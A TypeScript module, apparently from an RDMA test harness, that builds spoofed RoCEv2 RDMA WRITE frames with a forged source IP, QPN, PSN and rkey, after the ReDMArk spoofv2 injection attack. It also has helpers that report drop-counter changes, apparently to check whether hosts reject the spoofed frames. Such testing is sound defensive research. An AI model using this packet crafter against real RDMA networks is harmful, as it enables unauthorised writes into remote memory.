// The raw-frame injector's frame builder (attacker model T2, ReDMArk inject_attack/spoofv2.cpp): a complete
// RoCEv2 request with a valid ICRC, any source address, QPN and PSN the attacker chooses.

import {FrameEncoder, ipToU32} from '../wire/frame.js'
import {Opcode} from '../wire/opcodes.js'
import {PacketView} from '../wire/packet.js'

export interface CraftedRequest {
  srcIp: string
  dstIp: string
  destQp: number
  psn: number
  opcode?: number // default RC_RDMA_WRITE_ONLY
  va?: bigint
  rkey?: number
  payload?: Uint8Array
  pkey?: number
}

const encoder = new FrameEncoder()

export function craftRequest(r: CraftedRequest): Buffer {
  const p = new PacketView()
  p.srcIp = ipToU32(r.srcIp)
  p.dstIp = ipToU32(r.dstIp)
  p.srcPort = 0xc000 // spoofv2's fixed source port
  p.opcode = r.opcode ?? Opcode.RC_RDMA_WRITE_ONLY
  p.destQp = r.destQp & 0xffffff
  p.psn = r.psn & 0xffffff
  p.ackReq = 1
  p.pkey = r.pkey ?? 0xffff
  const payload = r.payload ?? new Uint8Array(0)
  p.rethVaHi = Number(((r.va ?? 0n) >> 32n) & 0xffffffffn)
  p.rethVaLo = Number((r.va ?? 0n) & 0xffffffffn)
  p.rethRkey = (r.rkey ?? 0) >>> 0
  p.rethLen = payload.length
  const out = Buffer.alloc(payload.length + 256)
  const n = encoder.encodeInto(out, 0, p, payload, 0, payload.length)
  return out.subarray(0, n)
}

/** Counter deltas between two snapshots of env.counters(host).drops, as 'name +n' strings. */
export function dropDelta(before: Record<string, number>, after: Record<string, number>): Record<string, number> {
  const d: Record<string, number> = {}
  for (const [k, v] of Object.entries(after)) if (v !== (before[k] ?? 0)) d[k] = v - (before[k] ?? 0)
  return d
}

export function deltaString(d: Record<string, number>): string {
  const parts = Object.entries(d).map(([k, v]) => `${k} +${v}`)
  return parts.length ? `drop ${parts.join(', ')}` : 'no drop counted'
}
